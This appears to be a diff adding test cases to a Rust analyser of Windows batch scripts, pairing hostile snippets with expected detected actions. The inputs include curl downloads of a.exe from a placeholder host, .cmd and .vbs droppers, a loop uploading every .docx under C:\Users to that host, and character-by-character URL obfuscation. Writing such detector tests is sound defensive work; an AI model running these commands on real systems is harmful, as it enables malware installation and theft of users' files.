@@ -157,6 +157,7 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
         &[
             "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs 91",
             "run cscript //nologo C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs",
+            "fetch http://192.0.2.7/a.exe",
         ],
     ),
     (
@@ -260,6 +261,37 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
             "run cmd /c \"for /f \"tokens=*\" %a in ('echo curl -o C:\\a.exe http://192.0.2.7/a.exe') do %a\"",
             "evaluate batch",
             "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
+    ),
+    (
+        "for /r over what it wrote, and over what is not known",
+        "echo curl -o C:\\a.exe http://192.0.2.7/a.exe>%TEMP%\\q\\one.cmd\nfor /r %TEMP% %%f in (*.cmd) do call \"%%f\"\nfor /r C:\\Users %%f in (*.docx) do curl -T \"%%f\" http://192.0.2.7/up\nfor /r D:\\ %%f in (.) do echo %%f\n",
+        &[
+            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q\\one.cmd 41",
+            "run \"C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q\\one.cmd\"",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+            "fetch http://192.0.2.7/up",
+        ],
+    ),
+    (
+        "for /d",
+        "for /d %%d in (C:\\Users\\* D:\\x) do start %%d\\run.exe",
+        &["run C:\\Users\\*\\run.exe", "run D:\\x\\run.exe"],
+    ),
+    (
+        "a label that calls itself for each letter",
+        "@echo off\nsetlocal enabledelayedexpansion\nset s=lru,c http://192.0.2.7/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nset r=\ncall :d\ncurl !r:~6!\nexit /b\n:d\nif \"!s!\"==\"\" exit /b\nset r=!r!!s:~0,1!\nset s=!s:~1!\ncall :d\nexit /b\n",
+        &[
+            "fetch http://192.0.2.7/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+        ],
+    ),
+    (
+        "vbscript by echo",
+        "echo CreateObject(\"WScript.Shell\").Run \"http://192.0.2.7/\" ^& \"a\">%TEMP%\\a.vbs\nwscript //b %TEMP%\\a.vbs",
+        &[
+            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.vbs 61",
+            "run wscript //b C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.vbs",
+            "run http://192.0.2.7/a",
         ],
     ),
 ];
